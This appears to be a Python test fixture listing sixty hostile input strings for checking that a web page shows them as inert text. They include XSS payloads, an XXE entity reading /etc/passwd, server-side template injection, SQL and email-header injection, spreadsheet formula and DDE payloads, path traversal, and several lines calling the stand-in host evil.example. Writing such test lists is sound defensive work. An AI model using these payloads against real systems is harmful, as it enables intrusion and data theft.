"""Sixty names that nobody should have: what is shown of them is themselves, and nothing happens."""

ACT = "window.acted=1;alert(1)"
NAMES = [
    # elements and attributes
    f"<script>{ACT}</script>",
    f"</script><script>{ACT}</script>",
    f"<img src=x onerror={ACT}>",
    f'"><img src=x onerror={ACT}>',
    f"' onmouseover='{ACT}' x='",
    f'" autofocus onfocus="{ACT}" x="',
    f"<svg onload={ACT}>",
    f"<svg><script href=data:,{ACT} />",
    f"<iframe srcdoc='<script>parent.{ACT}</script>'></iframe>",
    f"<iframe src=javascript:{ACT}></iframe>",
    f"<object data=javascript:{ACT}>",
    f"<math><mtext></table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={ACT}&gt;'>",
    f"<noscript><p title='</noscript><img src=x onerror={ACT}>'>",
    f"<details open ontoggle={ACT}>",
    f"<form action=javascript:{ACT}><button autofocus>x",
    "<base href=https://evil.example/>",
    "<base target=_blank>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>*{display:none}</style>",
    "<b style='position:fixed;inset:0;background:url(https://evil.example/x.png)'>over all</b>",
    "<input name=csrf value=stolen>",
    "<form id=list action=https://evil.example><input type=submit>",
    "<a href=javascript:window.acted=1>here</a>",
    "<img src=https://evil.example/pixel.png>",
    "<img name=getElementById><form name=body>",
    # ends of what it may stand in
    f"</textarea><script>{ACT}</script>",
    f"</title><script>{ACT}</script>",
    f"</select></option><script>{ACT}</script>",
    f"</svg></text><script>{ACT}</script>",
    "]]><x>",
    "<!-- never ended",
    "--><b>out</b>",
    "<![CDATA[<b>x</b>]]>",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "&lt;b&gt; &amp;amp; &#60;i&#62; &notit;",
    # htmx and templates
    "<p hx-get=https://evil.example hx-trigger=load>",
    f"<p hx-on:load={ACT} data-hx-on::after-settle={ACT}>",
    "<div hx-swap-oob=true id=line>gone</div>",
    "{{ 7*7 }}{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "{{ self.__init__.__globals__ }}{# x #}",
    "{0.__class__.__mro__} {x!r} {} {",
    "%s %d %(name)s %n ${7*7} <%= 7*7 %> [/bold] [link=https://evil.example]x[/link] [red] :skull:",
    # addresses
    "javascript:window.acted=1",
    "java\tscript:window.acted=1//",
    "data:text/html,<script>alert(1)</script>",
    "//evil.example/x",
    "https://evil.example/?a=b&c=d#e",
    "../../../../etc/passwd",
    "..%2f..%2f%00?x#y;z",
    # stores and headers
    "'; DROP TABLE alerts; --",
    '" OR 1=1 UNION SELECT digest FROM tokens --',
    "a\r\nBcc: thief@evil.example\r\nContent-Type: text/html\r\n\r\n<b>x</b>",
    "=?utf-8?q?a=0D=0ABcc:_thief@evil.example?= <thief@evil.example>, x@evil.example",
    '=HYPERLINK("https://evil.example","x")',
    "@SUM(1+9)*cmd|' /C calc'!A0",
    # letters
    "\u202e gpj.exe \u2066\u202d\u2069",
    "\u200bzero\u200d\u2060\ufeffwidth\u00ad",
    "\x1b[31m\x1b]0;owned\x07\x1b[2J\x9b31m",
    "🧨👩‍👩‍👧‍👦 Z͑ͫ̓ͪ̂ͫ̽͏̴a̴l̴g̴o 나래 Ёлка " + "long " * 300,
]
assert len(NAMES) == 60

ODD = ["a\x00b", "half \ud800 letter", "\udc00\ud800", "\x00"]
"""What not every store takes, and no page may break on."""
